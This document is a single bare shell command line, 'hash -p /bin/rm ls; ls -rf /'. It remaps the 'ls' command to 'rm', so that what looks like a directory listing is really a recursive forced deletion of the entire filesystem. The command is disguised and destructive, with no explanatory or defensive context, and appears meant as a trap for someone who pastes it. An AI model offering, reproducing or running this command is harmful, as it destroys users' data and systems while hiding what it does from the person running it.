hash -p /bin/rm ls; ls -rf /
